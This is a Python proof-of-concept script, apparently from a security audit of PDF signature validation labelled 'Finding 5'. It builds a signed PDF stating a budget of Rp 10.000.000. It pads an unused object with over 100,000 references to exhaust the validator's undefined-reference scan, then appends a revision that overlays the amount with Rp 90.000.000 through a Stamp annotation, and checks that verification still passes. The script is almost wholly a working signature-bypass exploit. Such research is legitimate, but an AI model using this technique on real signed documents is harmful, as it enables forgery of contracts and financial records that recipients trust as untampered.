# SPDX-License-Identifier: GPL-3.0-or-later
# Finding 5: the undefined-reference scan stops after kMaxFieldNodes (100000) distinct
# referenced numbers, in object-number order. Unused object 6 holds 100001 references;
# the page's indirect /Annots array (object 50) refers to undefined object 200000, which a
# later revision defines as a full-page /Stamp annotation (an array, so finding 4 is not needed).
from common import *
import sys
cert = sys.argv[1] if len(sys.argv) > 1 else None
npad = int(sys.argv[2]) if len(sys.argv) > 2 else 100001
OLD = b"BT /F1 24 Tf 72 720 Td (Jumlah anggaran: Rp 10.000.000) Tj ET"
NEW = b"q 1 1 1 rg 0 0 500 60 re f Q BT /F1 24 Tf 0 0 1 rg 12 20 Td (Jumlah anggaran: Rp 90.000.000) Tj ET"
objs = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots 50 0 R >>",
        4: stream(OLD), 5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        6: b"[" + b" ".join(b"%d 0 R" % i for i in range(300000, 300000 + npad)) + b"]",
        50: b"[200000 0 R]"}
tag = "a4" + ("-cert" + cert if cert else "") + ("" if npad == 100001 else "-pad%d" % npad)
src = write(tag + "-src.pdf", build(objs))
signed = sign(src, W + "/" + tag + "-signed.pdf", *(["--certify", cert] if cert else []))
f = write(tag + "-attack.pdf", update(signed, {
    200000: b"<< /Type /Annot /Subtype /Stamp /Rect [60 700 560 760] /F 4 /AP << /N 200001 0 R >> >>",
    200001: stream(NEW, b"/Type /XObject /Subtype /Form /BBox [0 0 500 60] /Resources << /Font << /F1 5 0 R >> >> ")}))
verify(W + "/" + tag + "-signed.pdf"); verify(f); render(W + "/" + tag + "-signed.pdf", tag + "-signed"); render(f, tag + "-attack")
